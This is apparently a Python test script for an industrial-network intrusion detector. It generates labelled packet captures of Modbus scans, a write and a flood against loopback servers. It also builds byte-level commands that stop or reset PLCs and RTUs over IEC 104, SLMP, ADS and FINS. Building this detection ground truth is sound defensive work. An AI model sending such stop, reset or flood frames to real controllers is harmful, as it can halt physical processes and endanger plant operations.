"""Make the labelled attack captures in tests/data/attacks/ with real stacks (pymodbus) on loopback.

Run as root from the repository root: ``.venv/bin/python -m tests.detections.make_attack_captures``;
``... make_attack_captures crafted`` writes only ``crafted_commands.pcap`` (crafted bytes, no root).
Hosts: HMI 127.0.0.10 (benign polling of both PLCs all along), PLC1 127.0.0.11:502 and PLC2
127.0.0.12:502 (pymodbus servers), attacker 127.0.0.66. Each attack action is timed; its first and
last frames are read back from the capture with tshark, so the labels match the file.
"""

from __future__ import annotations

import contextlib
import json
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

from plantwarden.demo.pcapwriter import (
    ETHERTYPE_IPV4,
    Host,
    TcpConn,
    Timeline,
    internet_checksum,
    mac_bytes,
    write_pcap,
)
from tests.realstack.capture import tcpdump

HERE = Path(__file__).resolve().parent
OUT = HERE.parent / "data" / "attacks"
HMI, PLC1, PLC2, ATTACKER = "127.0.0.10", "127.0.0.11", "127.0.0.12", "127.0.0.66"


@contextlib.contextmanager
def modbus_server(host: str) -> Iterator[None]:
    """The pymodbus server on host:502 in a subprocess, until the block ends."""
    proc = subprocess.Popen([sys.executable, str(HERE / "attack_modbus_server.py"), host, "502"])
    try:
        deadline = time.monotonic() + 20
        while True:
            with socket.socket() as s:
                s.settimeout(0.2)
                if s.connect_ex((host, 502)) == 0:
                    break
            if time.monotonic() > deadline or proc.poll() is not None:
                raise RuntimeError(f"the Modbus server on {host} did not start")
            time.sleep(0.1)
        yield
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def hmi_polling(stop: threading.Event) -> None:
    from pymodbus.client import ModbusTcpClient

    clients = [ModbusTcpClient(h, port=502, source_address=(HMI, 0), timeout=1, retries=0) for h in (PLC1, PLC2)]
    for c in clients:
        c.connect()
    while not stop.is_set():
        for c in clients:
            c.read_holding_registers(0, count=10, device_id=1)
            c.read_coils(0, count=8, device_id=1)
        stop.wait(0.5)
    for c in clients:
        c.close()


def attacker_client(host: str):  # type: ignore[no-untyped-def]
    from pymodbus.client import ModbusTcpClient

    c = ModbusTcpClient(host, port=502, source_address=(ATTACKER, 0), timeout=1, retries=0)
    assert c.connect()
    return c


def network_scan() -> None:
    for last in range(20, 35):  # nothing listens there: every SYN gets a RST
        s = socket.socket()
        s.bind((ATTACKER, 0))
        s.settimeout(0.5)
        try:
            s.connect((f"127.0.0.{last}", 502))
        except OSError:
            pass
        finally:
            s.close()
        time.sleep(0.05)


def unit_id_scan() -> None:
    c = attacker_client(PLC1)
    for unit in range(1, 31):
        c.read_holding_registers(0, count=1, device_id=unit)
    c.close()


def register_scan() -> None:
    c = attacker_client(PLC1)
    for addr in range(200, 1700, 100):  # the server holds 100 registers: all illegal addresses
        c.read_holding_registers(addr, count=4, device_id=1)
    c.close()


def broadcast_write() -> None:
    c = attacker_client(PLC1)
    c.write_register(5, 4242, device_id=0, no_response_expected=True)
    time.sleep(0.3)
    c.close()


def request_flood(n: int = 2500) -> None:
    s = socket.socket()
    s.bind((ATTACKER, 0))
    s.connect((PLC2, 502))
    adus = b"".join(struct.pack(">HHHBBHH", tid & 0xFFFF, 0, 6, 1, 3, 0, 1) for tid in range(1, n + 1))
    got = bytearray()

    def drain() -> None:
        s.settimeout(3)
        try:
            while len(got) < n * 11:
                chunk = s.recv(65536)
                if not chunk:
                    break
                got.extend(chunk)
        except OSError:
            pass

    t = threading.Thread(target=drain)
    t.start()
    s.sendall(adus)
    t.join(10)
    s.close()


ACTIONS = [
    ("network_scan", "T0846", "ics.network_scan", network_scan, "TCP connects from the attacker to 15 closed hosts on port 502"),
    ("modbus_unit_id_scan", "T0846", "modbus.unit_id_scan", unit_id_scan, "FC 3 reads of unit ids 1-30 on PLC1"),
    ("modbus_register_scan", "T0846", "modbus.register_scan", register_scan, "FC 3 reads at 15 addresses past PLC1's register map"),
    ("modbus_broadcast_write", "T0855", "modbus.broadcast_write", broadcast_write, "FC 6 write to unit id 0 on PLC1"),
    ("modbus_request_flood", "T0814", "ics.request_flood", request_flood, "2,500 pipelined FC 3 requests to PLC2 in a burst"),
]


def frames(path: Path) -> list[tuple[int, float, str, str]]:
    out = subprocess.run(["tshark", "-n", "-r", str(path), "-T", "fields", "-e", "frame.number", "-e",
                          "frame.time_epoch", "-e", "ip.src", "-e", "ip.dst"], capture_output=True, text=True,
                         check=True).stdout
    rows = []
    for line in out.splitlines():
        n, ts, src, dst = line.split("\t")
        rows.append((int(n), float(ts), src, dst))
    return rows


def credentials_capture() -> dict[str, object]:
    """HTTP Basic authentication (Python's http.server and urllib) on 127.0.0.21:8080."""
    import base64
    import http.server
    import urllib.request

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (the stdlib's name)
            self.send_response(200 if self.headers.get("Authorization") else 401)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, *args: object) -> None:
            pass

    path = OUT / "http_basic_auth.pcap"
    srv = http.server.HTTPServer(("127.0.0.21", 8080), Handler)
    t = threading.Thread(target=srv.serve_forever)
    t.start()
    try:
        with tcpdump(path, "tcp port 8080"):
            t0 = time.time()
            token = base64.b64encode(b"operator:Sup3rSecret").decode()
            req = urllib.request.Request("http://127.0.0.21:8080/hmi/config", headers={"Authorization": f"Basic {token}"})
            urllib.request.urlopen(req, timeout=5).read()
            t1 = time.time()
    finally:
        srv.shutdown()
        t.join()
    rows = frames(path)
    mine = [r for r in rows if t0 - 0.01 <= r[1] <= t1 + 0.5]
    return {"capture": path.name, "packets": len(rows), "made_with": "Python http.server and urllib",
            "hosts": {"client": "127.0.0.1", "server": "127.0.0.21"},
            "actions": [{"id": "http_basic_auth", "hostile": True, "proto": "http", "attack_technique": "T0859",
                         "expected_detection": "ics.credentials_in_clear",
                         "description": "an HTTP GET with Basic authentication (user operator) in clear",
                         "src": "127.0.0.1", "first_frame": mine[0][0], "last_frame": mine[-1][0],
                         "first_ts": mine[0][1], "last_ts": mine[-1][1]}]}


# -- crafted commands (no stack available): bytes written by hand, dissection confirmed by tshark ------------

CRAFTED_T0 = 1767261600.0  # 2026-01-01 10:00:00 UTC: fixed, so the file is the same on every run
CRAFTED_PORT_BASE = 50211  # client ports: one per TCP connection, in order


def _iec104_i(ssn: int, rsn: int, asdu: bytes) -> bytes:
    """An IEC 104 I frame: start, length, send/receive sequence numbers (shifted left by one, LE), ASDU."""
    return bytes([0x68, 4 + len(asdu)]) + struct.pack("<HH", ssn << 1, rsn << 1) + asdu


def _iec104_asdu(type_id: int, cot: int, ioa: int, element: bytes, common_address: int = 1) -> bytes:
    """One-object ASDU: type id, VSQ 1, cause, originator 0, common address (LE), 3-byte IOA, element."""
    return bytes([type_id, 1, cot, 0]) + struct.pack("<H", common_address) + ioa.to_bytes(3, "little") + element


def _slmp_3e(command: int, data: bytes) -> bytes:
    """SLMP 3E binary request to the connected station (network 0, PC 0xFF, module 0x03FF, drop 0)."""
    body = struct.pack("<HHH", 0x0010, command, 0x0000) + data  # monitoring timer 4 s, command, subcommand
    return b"\x50\x00\x00\xff\xff\x03\x00" + struct.pack("<H", len(body)) + body


SLMP_3E_OK = b"\xd0\x00\x00\xff\xff\x03\x00\x02\x00\x00\x00"  # 3E answer: data length 2, end code 0


def _ams(target: str, tport: int, source: str, sport: int, cmd: int, flags: int, invoke: int, data: bytes) -> bytes:
    """AMS/TCP header + AMS header + ADS data (all little-endian)."""
    net = lambda s: bytes(int(x) for x in s.split("."))  # noqa: E731
    ams = net(target) + struct.pack("<H", tport) + net(source) + struct.pack("<H", sport)
    ams += struct.pack("<HHIII", cmd, flags, len(data), 0, invoke) + data
    return struct.pack("<HI", 0, len(ams)) + ams


def _udp_frame(src: Host, dst: Host, sport: int, dport: int, payload: bytes) -> bytes:
    """Ethernet II + IPv4 + UDP (checksum filled in): the only UDP the demo's TCP writer lacks."""
    udp_len = 8 + len(payload)
    pseudo = src.ip_raw + dst.ip_raw + struct.pack("!BBH", 0, 17, udp_len)
    csum = internet_checksum(pseudo + struct.pack("!HHHH", sport, dport, udp_len, 0) + payload) or 0xFFFF
    udp = struct.pack("!HHHH", sport, dport, udp_len, csum) + payload
    ident, src.ip_id = src.ip_id, (src.ip_id + 1) & 0xFFFF
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, ident, 0, src.ttl, 17, 0, src.ip_raw, dst.ip_raw)
    ip = ip[:10] + struct.pack("!H", internet_checksum(ip)) + ip[12:]
    frame = mac_bytes(dst.mac) + mac_bytes(src.mac) + struct.pack("!H", ETHERTYPE_IPV4) + ip + udp
    return frame + b"\x00" * max(0, 60 - len(frame))


#: (action id, technique, detection, protocol, description) of every labelled crafted command
CRAFTED_ACTIONS = [
    ("iec104_reset_process", "T0816", "ics.device_restart", "iec104",
     "IEC 104 C_RP_NA_1 (type 105) reset process, QRP 1 general reset, activation and its confirmation"),
    ("slmp_remote_stop", "T0858", "ics.plc_stop", "slmp", "SLMP 3E binary remote STOP (command 0x1002) and its answer"),
    ("slmp_remote_reset", "T0816", "ics.device_restart", "slmp",
     "SLMP 3E binary remote RESET (command 0x1006) and its answer"),
    ("ads_write_control_stop", "T0858", "ics.plc_stop", "ads",
     "ADS Write Control (command 5) setting ADS state STOP (6) on AMS port 851, and its answer"),
    ("fins_stop", "T0858", "ics.plc_stop", "fins", "FINS/UDP STOP (0x0402) and its answer"),
]


def crafted_capture(out: Path = OUT) -> Path:
    """Write ``crafted_commands.pcap`` and its labels: commands no available stack sends, built byte by byte.

    Deterministic (fixed times, ports, sequence numbers; no network, no root). Each TCP command has its
    own connection with a handshake and the server's answer; FINS is one UDP request and its answer,
    written last (the demo's writer only does TCP; :func:`_udp_frame` adds the datagrams).
    """
    atk = Host("attacker", "10.0.5.66", "b8:27:eb:11:05:66")
    rtu = Host("rtu", "10.0.5.20", "00:02:a3:20:05:20")  # IEC 104 outstation
    melsec = Host("melsec", "10.0.5.30", "00:26:92:30:05:30")  # Mitsubishi
    beckhoff = Host("beckhoff", "10.0.5.40", "00:01:05:40:05:40")
    omron = Host("omron", "10.0.5.50", "00:00:0a:50:05:50")
    tl = Timeline()
    rtt = 0.0004
    conns = iter(range(CRAFTED_PORT_BASE, CRAFTED_PORT_BASE + 10))

    def conn(server: Host, port: int, isn: int) -> TcpConn:
        cport = next(conns)
        return TcpConn(tl, atk, server, cport, port, isn, isn ^ 0x5A5A5A5A)

    # IEC 104: STARTDT, reset process (act / actcon), a single command (act / actcon / actterm), S frame
    t = CRAFTED_T0
    c = conn(rtu, 2404, 0x10400000)
    t = c.open(t, rtt) + 0.01
    c.send(t, True, b"\x68\x04\x07\x00\x00\x00")  # STARTDT act
    c.send(t + 0.002, False, b"\x68\x04\x0b\x00\x00\x00")  # STARTDT con
    t += 0.5
    c.send(t, True, _iec104_i(0, 0, _iec104_asdu(105, 6, 0, b"\x01")), "iec104_reset_process")  # act, QRP 1
    c.send(t + 0.005, False, _iec104_i(0, 1, _iec104_asdu(105, 7, 0, b"\x01")), "iec104_reset_process")  # actcon
    t += 0.5
    c.send(t, True, _iec104_i(1, 1, _iec104_asdu(45, 6, 3000, b"\x01")))  # C_SC_NA_1 act: ON, execute
    c.send(t + 0.004, False, _iec104_i(1, 2, _iec104_asdu(45, 7, 3000, b"\x01")))  # actcon
    c.send(t + 0.020, False, _iec104_i(2, 2, _iec104_asdu(45, 10, 3000, b"\x01")))  # actterm
    c.send(t + 0.030, True, b"\x68\x04\x01\x00" + struct.pack("<H", 3 << 1))  # S frame: received 3
    c.close(t + 0.5, rtt)

    # SLMP 3E binary: remote STOP, then remote RESET, each on its own connection to port 5007
    t += 2
    for action, command in (("slmp_remote_stop", 0x1002), ("slmp_remote_reset", 0x1006)):
        c = conn(melsec, 5007, 0x50070000 + command)
        t = c.open(t, rtt) + 0.01
        c.send(t, True, _slmp_3e(command, b"\x01\x00"), action)  # request data 0x0001 (fixed)
        c.send(t + 0.008, False, SLMP_3E_OK, action)
        c.ack(t + 0.009, True)
        c.close(t + 0.3, rtt)
        t += 2

    # ADS: Write Control to the TwinCAT 3 PLC runtime (AMS port 851), ADS state STOP (6)
    c = conn(beckhoff, 48898, 0x48898000)
    t = c.open(t, rtt) + 0.01
    src_net, dst_net = "10.0.5.66.1.1", "10.0.5.40.1.1"
    req = _ams(dst_net, 851, src_net, 32905, 5, 0x0004, 1, struct.pack("<HHI", 6, 0, 0))
    resp = _ams(src_net, 32905, dst_net, 851, 5, 0x0005, 1, struct.pack("<I", 0))
    c.send(t, True, req, "ads_write_control_stop")
    c.send(t + 0.006, False, resp, "ads_write_control_stop")
    c.ack(t + 0.007, True)
    c.close(t + 0.3, rtt)
    t += 2

    path = out / "crafted_commands.pcap"
    sorted_pkts = tl.sorted()
    write_pcap(path, sorted_pkts)
    frame_of: dict[str, list[tuple[int, float]]] = {}
    for n, p in enumerate(sorted_pkts, 1):
        if p.label:
            frame_of.setdefault(p.label, []).append((n, p.ts))

    # FINS/UDP 9600: STOP (no parameters) from node 66 to node 50, answer with end code 0
    fins_req = bytes([0x80, 0, 2, 0, 50, 0, 0, 66, 0, 0x01]) + b"\x04\x02"
    fins_resp = bytes([0xC0, 0, 2, 0, 66, 0, 0, 50, 0, 0x01]) + b"\x04\x02\x00\x00"
    n = len(sorted_pkts)
    with open(path, "ab") as fh:
        for i, (ts, frame) in enumerate(((t, _udp_frame(atk, omron, 9600, 9600, fins_req)),
                                         (t + 0.003, _udp_frame(omron, atk, 9600, 9600, fins_resp))), n + 1):
            sec, usec = divmod(round(ts * 1_000_000), 1_000_000)
            fh.write(struct.pack("<IIII", sec, usec, len(frame), len(frame)) + frame)
            frame_of.setdefault("fins_stop", []).append((i, ts))
            n = i

    actions = []
    for name, technique, detection, proto, desc in CRAFTED_ACTIONS:
        mine = frame_of[name]
        actions.append({"id": name, "hostile": True, "proto": proto, "attack_technique": technique,
                        "expected_detection": detection, "description": desc, "src": atk.ip,
                        "first_frame": mine[0][0], "last_frame": mine[-1][0],
                        "first_ts": mine[0][1], "last_ts": mine[-1][1]})
    labels = {"capture": path.name, "packets": n,
              "made_with": "crafted bytes (tests/detections/make_attack_captures.py crafted_capture); "
                           "dissection checked with tshark (SLMP: no tshark dissector)",
              "hosts": {h.name: h.ip for h in (atk, rtu, melsec, beckhoff, omron)},
              "unlabelled": ["iec104 C_SC_NA_1 single command (IOA 3000) after the reset: a write that no "
                             "rule detection covers on a first analysis"],
              "actions": actions}
    (out / "crafted_commands.labels.json").write_text(json.dumps(labels, indent=1) + "\n")
    return path


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    crafted_capture()
    if sys.argv[1:] == ["crafted"]:  # no root needed: only the crafted capture
        return
    path = OUT / "modbus_attacks.pcap"
    times = []
    with modbus_server(PLC1), modbus_server(PLC2), tcpdump(path, "tcp port 502"):
        stop = threading.Event()
        hmi = threading.Thread(target=hmi_polling, args=(stop,))
        hmi.start()
        time.sleep(3)
        for name, technique, detection, fn, desc in ACTIONS:
            t0 = time.time()
            fn()
            t1 = time.time()
            times.append((name, technique, detection, desc, t0, t1))
            time.sleep(2)
        stop.set()
        hmi.join()
    rows = frames(path)
    actions = []
    for name, technique, detection, desc, t0, t1 in times:
        mine = [r for r in rows if t0 - 0.01 <= r[1] <= t1 + 0.5 and ATTACKER in (r[2], r[3])]
        actions.append({"id": name, "hostile": True, "proto": "modbus", "attack_technique": technique,
                        "expected_detection": detection, "description": desc, "src": ATTACKER,
                        "first_frame": mine[0][0], "last_frame": mine[-1][0],
                        "first_ts": mine[0][1], "last_ts": mine[-1][1]})
    labels = {"capture": path.name, "packets": len(rows), "made_with": "pymodbus " + _pymodbus_version(),
              "hosts": {"hmi": HMI, "plc1": PLC1, "plc2": PLC2, "attacker": ATTACKER}, "actions": actions}
    (OUT / "modbus_attacks.labels.json").write_text(json.dumps(labels, indent=1) + "\n")
    print(json.dumps(labels, indent=1))
    creds = credentials_capture()
    (OUT / "http_basic_auth.labels.json").write_text(json.dumps(creds, indent=1) + "\n")


def _pymodbus_version() -> str:
    import pymodbus

    return str(pymodbus.__version__)


if __name__ == "__main__":
    sys.exit(main())
